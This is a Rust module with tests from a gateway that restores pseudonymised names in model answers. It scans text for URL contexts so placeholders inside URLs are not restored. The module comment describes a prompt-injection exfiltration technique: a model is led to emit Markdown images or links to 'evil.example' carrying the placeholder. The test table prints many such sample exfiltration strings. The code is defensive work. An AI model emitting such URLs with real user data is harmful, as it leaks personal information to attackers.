//! URL context of a model's answer: which placeholders sit inside a URL.
//!
//! The threat: a prompt-injected model answers `![x](https://evil.example/c?n=〔氏名1〕)`.
//! Were the gateway to restore `〔氏名1〕` there, the client's Markdown renderer would
//! fetch the image at once and hand the real name to `evil.example`; a link does the
//! same on a click. So, unless a department sets `restore_in_urls`, a placeholder
//! inside a URL is left as it is (the client sees `〔氏名1〕` in the URL) while the same
//! placeholder in the prose of the same answer is restored.
//!
//! [`UrlContext`] is a character-by-character state machine over the answer text as
//! the model wrote it (placeholders, not originals). Each decision depends only on the
//! characters before it, so a stream restorer feeding the text in pieces of any size
//! gets exactly the decisions made for the whole text: no look-ahead, and nothing held
//! back beyond the partial placeholder the restorer already holds.
//!
//! What counts as a URL, on the cautious side (as the most eager renderer links it):
//! - a bare URL: from a `//` (`http://`, `https://`, any `scheme://`, a protocol-
//!   relative `//host`) or a `www.` at the start of a word, up to the next ASCII
//!   whitespace or `<` (ideographic and no-break spaces do not end it). GitHub-flavoured Markdown links `https://h/a)b"c` as one URL, so closing
//!   brackets and quotes in prose do not end it: a placeholder written right after a
//!   bare URL without a space stays a placeholder.
//! - a Markdown link or image destination after `[…](` (also the `<…>` form; balanced
//!   parentheses; it ends at whitespace or the closing `)`), a reference definition
//!   after `[…]:` (up to whitespace);
//! - an autolink `<scheme:…>`;
//! - inside an HTML tag, the value of `src`, `href`, `action`, `srcset`, `formaction`,
//!   `poster`, `data`, `background`, `ping`, `cite`, `lowsrc`, `dynsrc`, `codebase` or
//!   any attribute whose name ends in `src` or `href` (`data-src`, `xlink:href`),
//!   quoted or not;
//! - a CSS `url(…)`.
//!
//! Inside these constructs the destination ends where the construct ends (a Markdown
//! or HTML parser consumes the construct before any bare-URL linking). A `[` that a
//! Markdown parser would not take for a link's — backslash-escaped, inside a code
//! span, in an earlier paragraph — opens no link here either, so its `](…)` is read by
//! the bare-URL rule.
//!
//! Percent-encoded placeholders (`%E3%80%94氏名1%E3%80%95`) need nothing here: restoring
//! matches the literal brackets only, so they are never decoded into originals.
//!
//! Text that is JSON source (tool call arguments) is read string by string after JSON
//! unescaping (`https:\/\/`, `\u002f`), so a URL there also ends with its JSON string.

use super::Escape;

/// Attribute names whose values are URLs (besides names ending in `src` or `href`).
const URL_ATTRIBUTES: &[&str] = &[
    "action",
    "background",
    "cite",
    "codebase",
    "data",
    "formaction",
    "ping",
    "poster",
    "srcset",
];

/// Longest tag, scheme or attribute name kept (longer ones are not URL-bearing).
const MAX_NAME: usize = 32;
/// Bound on the nesting counted for `[` and `(` (more is treated as this many).
const MAX_DEPTH: u16 = 1024;

/// The construct whose URL is being read, if any.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Construct {
    None,
    /// After `](`: whitespace (one line break at most), then the destination.
    LinkPending {
        newline: bool,
    },
    /// A link destination; `depth` unclosed `(` inside it.
    LinkDest {
        depth: u16,
    },
    /// A `<…>` link or reference destination.
    AngleDest,
    /// After `]:`: whitespace (one line break at most), then the destination.
    RefPending {
        newline: bool,
    },
    /// A reference definition's destination.
    RefDest,
    /// `<scheme:…>`.
    Autolink,
    /// After `name=` of a URL attribute: whitespace, then the value.
    AttrPending,
    /// A quoted URL attribute value.
    AttrQuoted(char),
    /// An unquoted URL attribute value.
    AttrBare,
    /// After `url(`: whitespace, then the URL.
    CssPending,
    /// A quoted CSS URL.
    CssQuoted(char),
    /// An unquoted CSS URL.
    CssBare,
}

/// Where the scanner stands with respect to HTML tags.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tag {
    /// Not in a tag.
    Out,
    /// Just after `<`.
    Lt,
    /// Reading the tag name (or an autolink scheme) after `<`.
    Name,
    /// Inside a tag, after its name; `quote` of a non-URL attribute value.
    In { quote: Option<char> },
    /// An unquoted non-URL attribute value.
    Value,
}

/// Decides, character by character, whether text is inside a URL (see the module
/// documentation). Markdown, HTML or plain text.
#[derive(Clone)]
struct TextScanner {
    construct: Construct,
    /// In a bare URL (outside any construct).
    bare: bool,
    tag: Tag,
    /// Tag name or scheme after `<`, lowercased.
    name: String,
    /// Current word inside a tag (an attribute name), lowercased.
    word: String,
    /// Whitespace followed the word (`src = "…"` is allowed).
    word_closed: bool,
    /// The last non-blank character in the tag was the `=` of a non-URL attribute.
    after_eq: bool,
    /// The last character was a backslash escaping this one (in a destination).
    escaped: bool,
    /// The last prose character was an escaping backslash.
    prose_escape: bool,
    /// Length of the backtick run being read.
    ticks: u8,
    /// Only blanks since the last line break.
    blank_line: bool,
    /// Length of the backtick run that opened the code span we are in.
    code: Option<u8>,
    /// Unclosed `[`.
    brackets: u16,
    /// Whether the last `]` closed a `[`.
    closed_bracket: bool,
    /// The last characters fed, lowercased, oldest first.
    recent: [char; 4],
    /// Whether the last character fed is inside a URL.
    last: bool,
}

/// Shows the state only: never the names or characters kept.
impl std::fmt::Debug for TextScanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TextScanner")
            .field("construct", &self.construct)
            .field("bare", &self.bare)
            .field("tag", &self.tag)
            .finish_non_exhaustive()
    }
}

impl Default for TextScanner {
    fn default() -> Self {
        TextScanner {
            construct: Construct::None,
            bare: false,
            tag: Tag::Out,
            name: String::new(),
            word: String::new(),
            word_closed: false,
            after_eq: false,
            escaped: false,
            prose_escape: false,
            ticks: 0,
            blank_line: false,
            code: None,
            brackets: 0,
            closed_bracket: false,
            // The start of the text acts like a line start (a word boundary).
            recent: ['\n'; 4],
            last: false,
        }
    }
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ':' | '.')
}

fn is_url_attribute(name: &str) -> bool {
    name.ends_with("src") || name.ends_with("href") || URL_ATTRIBUTES.contains(&name)
}

/// `scheme` of an autolink: a letter, then letters, digits, `+`, `.`, `-`; 2 to 32 long.
fn is_scheme(name: &str) -> bool {
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && name.len() >= 2
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
}

impl TextScanner {
    fn feed(&mut self, c: char) {
        self.last = self.step(c);
        if self.prose_escape {
            // An escaping backslash is not text: `https:\/\/h` renders as `https://h`.
            return;
        }
        let lower = c.to_ascii_lowercase();
        self.recent.rotate_left(1);
        self.recent[3] = lower;
    }

    /// Whether `c` is inside a URL; updates the state.
    fn step(&mut self, c: char) -> bool {
        use Construct as K;
        // Only ASCII whitespace ends a URL: CommonMark destinations and GFM autolinks
        // run over U+3000 and no-break spaces, so they do here too.
        let ws = c.is_ascii_whitespace();
        // The construct being read, if any. `Some(x)`: `c` is consumed, `x` says
        // whether it is inside the URL; `None`: `c` goes on to the prose rules below.
        // A backslash escapes the next character of a Markdown destination or a CSS
        // URL (`[a](/x\)y)` goes on after `\)`): inside the URL, and no closer.
        let escapable = matches!(
            self.construct,
            K::LinkDest { .. } | K::AngleDest | K::CssQuoted(_) | K::CssBare
        );
        if escapable && std::mem::take(&mut self.escaped) {
            return true;
        }
        if escapable && c == '\\' {
            self.escaped = true;
            return true;
        }
        let consumed = match self.construct {
            K::None => None,
            K::LinkPending { newline } | K::RefPending { newline } => {
                let link = matches!(self.construct, K::LinkPending { .. });
                if c == '\n' && !newline {
                    self.construct = if link {
                        K::LinkPending { newline: true }
                    } else {
                        K::RefPending { newline: true }
                    };
                    Some(false)
                } else if c == '\n' {
                    self.construct = K::None;
                    None
                } else if ws {
                    Some(false)
                } else if c == '<' {
                    self.construct = K::AngleDest;
                    Some(false)
                } else if link && c == ')' {
                    self.construct = K::None;
                    Some(false)
                } else {
                    self.construct = if link {
                        K::LinkDest {
                            depth: u16::from(c == '('),
                        }
                    } else {
                        K::RefDest
                    };
                    self.escaped = link && c == '\\';
                    Some(true)
                }
            }
            K::LinkDest { depth } => {
                if ws {
                    self.construct = K::None;
                    None
                } else if c == ')' && depth == 0 {
                    self.construct = K::None;
                    Some(false)
                } else {
                    let depth = match c {
                        ')' => depth - 1,
                        '(' => (depth + 1).min(MAX_DEPTH),
                        _ => depth,
                    };
                    self.construct = K::LinkDest { depth };
                    Some(true)
                }
            }
            K::AngleDest => {
                if c == '>' || c == '\n' {
                    self.construct = K::None;
                    Some(false)
                } else {
                    Some(true)
                }
            }
            K::RefDest | K::Autolink => {
                if ws || c == '<' || (c == '>' && self.construct == K::Autolink) {
                    self.construct = K::None;
                    if c == '>' {
                        Some(false)
                    } else {
                        None
                    }
                } else {
                    Some(true)
                }
            }
            K::AttrPending => {
                if ws {
                    Some(false)
                } else if c == '"' || c == '\'' {
                    self.construct = K::AttrQuoted(c);
                    Some(false)
                } else if c == '>' {
                    self.construct = K::None;
                    None
                } else {
                    self.construct = K::AttrBare;
                    Some(true)
                }
            }
            K::AttrQuoted(q) | K::CssQuoted(q) => {
                if c == q {
                    self.construct = K::None;
                    Some(false)
                } else {
                    Some(true)
                }
            }
            K::AttrBare => {
                if ws || c == '>' {
                    self.construct = K::None;
                    None
                } else {
                    Some(true)
                }
            }
            K::CssPending => {
                if ws {
                    Some(false)
                } else if c == '"' || c == '\'' {
                    self.construct = K::CssQuoted(c);
                    Some(false)
                } else if c == ')' {
                    self.construct = K::None;
                    Some(false)
                } else {
                    self.construct = K::CssBare;
                    Some(true)
                }
            }
            K::CssBare => {
                if ws || c == ')' {
                    self.construct = K::None;
                    Some(false)
                } else {
                    Some(true)
                }
            }
        };
        if let Some(in_url) = consumed {
            return in_url;
        }

        // Prose (and tags). A bare URL ends at whitespace or `<`.
        if self.bare && (ws || c == '<') {
            self.bare = false;
        }
        // A blank line ends a paragraph: no code span, tag or `[` goes on past it.
        if c == '\n' && self.blank_line {
            self.code = None;
            self.ticks = 0;
            self.brackets = 0;
            self.tag = Tag::Out;
        }
        if c == '\n' {
            self.blank_line = true;
        } else if !matches!(c, ' ' | '\t' | '\r') {
            self.blank_line = false;
        }
        // Markdown brackets count outside tags only; bare URLs and CSS `url(` are
        // found everywhere (a `style` attribute holds CSS).
        let in_tag = self.tag_step(c, ws);
        let prev = self.recent[3];
        // Brackets that a Markdown parser would not take for a link's (a backslash-
        // escaped one, one in a code span) do not count: `\[a](https://e/?q=)〔氏名1〕`
        // is no link, and a renderer links `https://e/?q=)〔氏名1〕` as a bare URL.
        let escaped = std::mem::take(&mut self.prose_escape);
        let markdown = !in_tag && !escaped && !self.code_step(c);
        if markdown && c == '\\' {
            self.prose_escape = true;
        }
        match c {
            '[' if markdown => self.brackets = (self.brackets + 1).min(MAX_DEPTH),
            ']' => {
                self.closed_bracket = markdown && self.brackets > 0;
                if markdown {
                    self.brackets = self.brackets.saturating_sub(1);
                }
            }
            '(' if markdown && prev == ']' && self.closed_bracket => {
                self.construct = K::LinkPending { newline: false };
            }
            ':' if markdown && prev == ']' && self.closed_bracket => {
                self.construct = K::RefPending { newline: false };
            }
            '/' if prev == '/' => self.bare = true,
            '.' if self.recent[1..] == ['w', 'w', 'w']
                && !self.recent[0].is_alphanumeric()
                && self.recent[0] != '.' =>
            {
                self.bare = true
            }
            '(' if self.recent[1..] == ['u', 'r', 'l'] && !self.recent[0].is_alphanumeric() => {
                self.construct = K::CssPending;
            }
            _ => {}
        }
        self.bare
    }

    /// Code span tracking; `true` when `c` is a backtick or inside a code span
    /// (backtick runs open and close spans of their length).
    fn code_step(&mut self, c: char) -> bool {
        if c == '`' {
            self.ticks = self.ticks.saturating_add(1);
            return true;
        }
        if self.ticks > 0 {
            self.code = match self.code {
                None => Some(self.ticks),
                Some(n) if n == self.ticks => None,
                open => open,
            };
            self.ticks = 0;
        }
        self.code.is_some()
    }

    /// Tag tracking; `true` when `c` was consumed by it.
    fn tag_step(&mut self, c: char, ws: bool) -> bool {
        match self.tag {
            Tag::Out => {
                if c == '<' {
                    self.tag = Tag::Lt;
                    self.name.clear();
                    return true;
                }
                false
            }
            Tag::Lt => {
                if c.is_ascii_alphabetic() {
                    self.tag = Tag::Name;
                    self.name.push(c.to_ascii_lowercase());
                    true
                } else if c == '/' {
                    self.enter_tag();
                    true
                } else {
                    self.tag = Tag::Out;
                    c == '<' && {
                        self.tag = Tag::Lt;
                        true
                    }
                }
            }
            Tag::Name => {
                if c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-') {
                    if self.name.len() < MAX_NAME {
                        self.name.push(c.to_ascii_lowercase());
                    } else {
                        self.tag = Tag::Out;
                    }
                    true
                } else if c == ':' && is_scheme(&self.name) {
                    self.tag = Tag::Out;
                    self.construct = Construct::Autolink;
                    true
                } else if ws || c == '/' {
                    self.enter_tag();
                    true
                } else {
                    self.tag = Tag::Out;
                    if c == '<' {
                        self.tag = Tag::Lt;
                        self.name.clear();
                    }
                    c == '>' || c == '<'
                }
            }
            Tag::In { quote: Some(q) } => {
                if c == q {
                    self.tag = Tag::In { quote: None };
                }
                true
            }
            Tag::Value => {
                if c == '>' {
                    self.tag = Tag::Out;
                } else if ws {
                    self.enter_tag();
                }
                true
            }
            Tag::In { quote: None } => {
                let after_eq = std::mem::take(&mut self.after_eq);
                if c == '>' {
                    self.tag = Tag::Out;
                } else if c == '<' {
                    self.tag = Tag::Lt;
                    self.name.clear();
                } else if c == '=' {
                    if is_url_attribute(&self.word) {
                        self.construct = Construct::AttrPending;
                    } else {
                        self.after_eq = true;
                    }
                    self.word.clear();
                } else if (c == '"' || c == '\'') && after_eq {
                    // A non-URL attribute's quoted value: it hides `>` and `=`.
                    self.tag = Tag::In { quote: Some(c) };
                } else if after_eq && !ws {
                    self.tag = Tag::Value;
                } else if ws {
                    self.word_closed = true;
                    self.after_eq = after_eq;
                } else if is_name_char(c) {
                    if self.word_closed {
                        self.word.clear();
                        self.word_closed = false;
                    }
                    if self.word.len() < MAX_NAME {
                        self.word.push(c.to_ascii_lowercase());
                    }
                } else if c == '/' {
                    self.word.clear();
                } else {
                    // Not a tag after all (`<b [link](…)`): the text is prose again.
                    self.tag = Tag::Out;
                    return false;
                }
                true
            }
        }
    }

    fn enter_tag(&mut self) {
        self.tag = Tag::In { quote: None };
        self.word.clear();
        self.word_closed = false;
    }
}

/// Where a JSON-source scanner stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum JsonState {
    /// Between tokens.
    Outside,
    /// Inside a string.
    InString,
    /// After a `\` inside a string.
    Escape,
    /// Inside `\uXXXX`: the digits read so far and their value.
    Unicode { digits: u8, value: u32 },
}

/// Decides, character by character, whether a placeholder is inside a URL of an
/// answer (see the module documentation). Feed it the model's text in order with
/// [`UrlContext::feed`]; after feeding a placeholder's `〔`, [`UrlContext::in_url`]
/// says whether that placeholder sits in a URL.
///
/// Its `Debug` output shows the state only, never text.
#[derive(Clone, Debug)]
pub struct UrlContext {
    text: TextScanner,
    /// `Some` when the text is JSON source: its strings are scanned one by one.
    json: Option<JsonState>,
    last: bool,
}

impl UrlContext {
    /// A scanner for text written as `escape` says: [`Escape::None`] is Markdown, HTML
    /// or plain text; [`Escape::JsonString`] is JSON source whose strings hold such text.
    pub fn new(escape: Escape) -> Self {
        UrlContext {
            text: TextScanner::default(),
            json: match escape {
                Escape::None => None,
                Escape::JsonString => Some(JsonState::Outside),
            },
            last: false,
        }
    }

    /// Takes the next character of the text.
    pub fn feed(&mut self, c: char) {
        let Some(state) = self.json else {
            self.text.feed(c);
            self.last = self.text.last;
            return;
        };
        self.last = false;
        let next = match state {
            JsonState::Outside => {
                if c == '"' {
                    self.text = TextScanner::default();
                    JsonState::InString
                } else {
                    JsonState::Outside
                }
            }
            JsonState::InString => match c {
                '\\' => JsonState::Escape,
                '"' => {
                    self.text = TextScanner::default();
                    JsonState::Outside
                }
                c => {
                    self.text.feed(c);
                    self.last = self.text.last;
                    JsonState::InString
                }
            },
            JsonState::Escape => {
                let decoded = match c {
                    'u' => None,
                    'n' => Some('\n'),
                    't' => Some('\t'),
                    'r' => Some('\r'),
                    'b' => Some('\u{8}'),
                    'f' => Some('\u{c}'),
                    other => Some(other),
                };
                match decoded {
                    Some(d) => {
                        self.text.feed(d);
                        JsonState::InString
                    }
                    None => JsonState::Unicode {
                        digits: 0,
                        value: 0,
                    },
                }
            }
            JsonState::Unicode { digits, value } => match c.to_digit(16) {
                Some(d) if digits == 3 => {
                    // A lone surrogate half stands for some non-blank character.
                    let decoded = char::from_u32(value * 16 + d).unwrap_or('x');
                    self.text.feed(decoded);
                    JsonState::InString
                }
                Some(d) => JsonState::Unicode {
                    digits: digits + 1,
                    value: value * 16 + d,
                },
                None => {
                    // Not valid JSON; read on as string text.
                    self.json = Some(JsonState::InString);
                    self.feed(c);
                    return;
                }
            },
        };
        self.json = Some(next);
    }

    /// Takes the next characters of the text.
    pub fn feed_str(&mut self, s: &str) {
        for c in s.chars() {
            self.feed(c);
        }
    }

    /// Whether the character fed last is inside a URL.
    pub fn in_url(&self) -> bool {
        self.last
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The text with every `〔` inside a URL marked `U` and every other one `P`.
    fn marks(text: &str, escape: Escape) -> String {
        let mut ctx = UrlContext::new(escape);
        let mut out = String::new();
        for c in text.chars() {
            ctx.feed(c);
            if c == '〔' {
                out.push(if ctx.in_url() { 'U' } else { 'P' });
            }
        }
        out
    }

    #[test]
    fn url_contexts_table() {
        // (case, text, marks of its `〔`s in order)
        let cases: &[(&str, &str, &str)] = &[
            ("prose", "〔氏名1〕様、こんにちは", "P"),
            ("image", "![x](https://evil.example/c?n=〔氏名1〕)と〔氏名1〕様", "UP"),
            ("link", "[詳細](https://evil.example/?q=〔氏名1〕) 〔氏名1〕", "UP"),
            ("link text", "[〔氏名1〕さん](https://example.jp/)。", "P"),
            ("link then Japanese", "[資料](https://example.jp/)、〔氏名1〕様", "P"),
            ("relative destination", "[a](〔氏名1〕)〔氏名1〕", "UP"),
            ("destination after blanks", "[a](\n  /x?n=〔氏名1〕)", "U"),
            ("balanced parentheses", "[a](/x_(y)〔氏名1〕)〔氏名1〕", "UP"),
            ("escaped parenthesis", "![x](https://e/c?n=\\)〔氏名1〕)〔氏名1〕", "UP"),
            ("escape first", "[a](\\)〔氏名1〕) [b](<a\\>〔氏名1〕>)〔氏名1〕", "UUP"),
            ("CSS escape", "url(a\\)〔氏名1〕) url(\"\\\"〔氏名1〕\") 〔氏名1〕", "UUP"),
            ("angle destination", "[a](<https://h/a b 〔氏名1〕>)〔氏名1〕", "UP"),
            ("title is no URL", "[a](/x \"〔氏名1〕\")", "P"),
            ("reference definition", "[r]: https://evil.example/?n=〔氏名1〕\n〔氏名1〕", "UP"),
            ("reference, relative", "[r]:〔氏名1〕 〔氏名1〕", "UP"),
            ("no opening bracket", "注](〔氏名1〕) 注]:〔氏名1〕", "PP"),
            ("escaped slashes", "https:\\/\\/e/〔氏名1〕 www\\.e/〔氏名1〕 〔氏名1〕", "UUP"),
            ("escaped bracket", "\\[a](https://e/?q=)〔氏名1〕 [b\\](https://e/?q=)〔氏名1〕", "UU"),
            ("bracket in a code span", "`[`](https://e/?q=)〔氏名1〕 ``a`[``](/x?〔氏名1〕)", "UP"),
            ("after a code span", "`x` [a](/x?〔氏名1〕)〔氏名1〕", "UP"),
            ("blank line ends a paragraph", "[a\n\n](〔氏名1〕) [a\r\n \r\n](〔氏名1〕)", "PP"),
            ("one line break does not", "[a\nb](〔氏名1〕)", "U"),
            ("autolink", "<https://evil.example/?n=〔氏名1〕>〔氏名1〕", "UP"),
            ("mailto autolink", "<mailto:〔氏名1〕@evil.example> 〔氏名1〕", "UP"),
            ("bare https", "見て https://evil.example/?n=〔氏名1〕 〔氏名1〕様", "UP"),
            ("bare http, uppercase", "HTTP://EVIL.EXAMPLE/〔氏名1〕\n〔氏名1〕", "UP"),
            ("protocol relative", "//evil.example/〔氏名1〕 ok 〔氏名1〕", "UP"),
            ("host is the name", "https://〔氏名1〕.evil.example/", "U"),
            ("www", "www.evil.example/〔氏名1〕 〔氏名1〕", "UP"),
            ("ideographic and no-break spaces", "https://e/　〔氏名1〕\u{a0}〔氏名1〕 〔氏名1〕", "UUP"),
            ("destination over U+3000", "![x](https://e/?n=　〔氏名1〕)〔氏名1〕", "UP"),
            ("www inside a word", "awww.〔氏名1〕", "P"),
            ("bare URL runs over brackets and quotes", "https://h/a)\"〔氏名1〕 〔氏名1〕", "UP"),
            ("bare URL ends at <", "https://h/a<b>〔氏名1〕", "P"),
            ("img src", "<img src=\"https://evil.example/p?n=〔氏名1〕\">〔氏名1〕", "UP"),
            ("src with spaces", "<img alt=x src = 'a b〔氏名1〕' title=\"〔氏名1〕\">", "UP"),
            ("unquoted src", "<img src=https://e/〔氏名1〕>〔氏名1〕", "UP"),
            ("href then text", "<a href=\"/p?n=〔氏名1〕\">〔氏名1〕</a>", "UP"),
            ("every URL attribute", "<form action=〔氏名1〕><button formaction=〔氏名1〕><video poster=〔氏名1〕><object data=〔氏名1〕><img srcset=\"〔氏名1〕 2x\">", "UUUUU"),
            ("data-src and xlink:href", "<img data-src=〔氏名1〕><use xlink:href=〔氏名1〕>", "UU"),
            ("quoted > in a non-URL attribute", "<img alt=\"a>b\" src=〔氏名1〕>", "U"),
            ("unquoted non-URL value", "<img alt=a/b src=〔氏名1〕>〔氏名1〕", "UP"),
            ("not a tag after all", "<b [a](/x?〔氏名1〕) <img alt=\"\n\n![x](/p?〔氏名1〕)", "UU"),
            ("src outside a tag", "src=〔氏名1〕 です", "P"),
            ("CSS url", "<div style=\"background:url(〔氏名1〕)\">〔氏名1〕</div>", "UP"),
            ("CSS url quoted", "url('https://e/〔氏名1〕') 〔氏名1〕", "UP"),
            ("less-than in prose", "1<2 〔氏名1〕 a</b 〔氏名1〕", "PP"),
            ("double slash needs no scheme", "A//〔氏名1〕", "U"),
            ("slashes with a space", "// 〔氏名1〕さん", "P"),
            ("percent-encoded is no bracket", "https://e/?n=%E3%80%94氏名1%E3%80%95 〔氏名1〕", "P"),
        ];
        for (case, text, want) in cases {
            assert_eq!(marks(text, Escape::None), *want, "{case}: {text}");
        }
    }

    #[test]
    fn json_source_is_read_string_by_string() {
        let cases: &[(&str, &str, &str)] = &[
            (
                "url member, then a name member",
                r#"{"url":"https://evil.example/?n=〔氏名1〕","to":"〔氏名1〕"}"#,
                "UP",
            ),
            ("escaped slashes", r#"{"u":"https:\/\/e\/〔氏名1〕"}"#, "U"),
            (
                "unicode-escaped slashes",
                r#"{"u":"\u002f\u002Fe/〔氏名1〕"}"#,
                "U",
            ),
            (
                "escaped newline ends a URL",
                r#"{"m":"https://e/\n〔氏名1〕"}"#,
                "P",
            ),
            (
                "markdown inside a string",
                r#"{"md":"![x](https://e/?q=〔氏名1〕) \"〔氏名1〕\""}"#,
                "UP",
            ),
            ("placeholder outside strings", "〔氏名1〕", "P"),
        ];
        for (case, text, want) in cases {
            assert_eq!(marks(text, Escape::JsonString), *want, "{case}: {text}");
        }
    }

    #[test]
    fn decisions_do_not_depend_on_where_the_text_is_cut() {
        // The scanner is fed one character at a time, so cutting the text anywhere
        // cannot change a decision; check that cloning mid-way (what a restorer holding
        // state across pieces amounts to) keeps it too.
        let text = "<a href='https://e/〔氏名1〕'>〔氏名1〕</a> [r]: //h/〔氏名1〕 x](〔氏名1〕)";
        let whole = marks(text, Escape::None);
        for (i, _) in text.char_indices() {
            let mut ctx = UrlContext::new(Escape::None);
            ctx.feed_str(&text[..i]);
            let mut ctx = ctx.clone();
            let mut before = marks(&text[..i], Escape::None);
            for c in text[i..].chars() {
                ctx.feed(c);
                if c == '〔' {
                    before.push(if ctx.in_url() { 'U' } else { 'P' });
                }
            }
            assert_eq!(before, whole, "cut at {i}");
        }
    }

    #[test]
    fn debug_output_holds_no_text() {
        let mut ctx = UrlContext::new(Escape::None);
        ctx.feed_str("<img src=\"https://e/山田");
        let dbg = format!("{ctx:?}");
        assert!(!dbg.contains("山田") && !dbg.contains("https"), "{dbg}");
    }
}
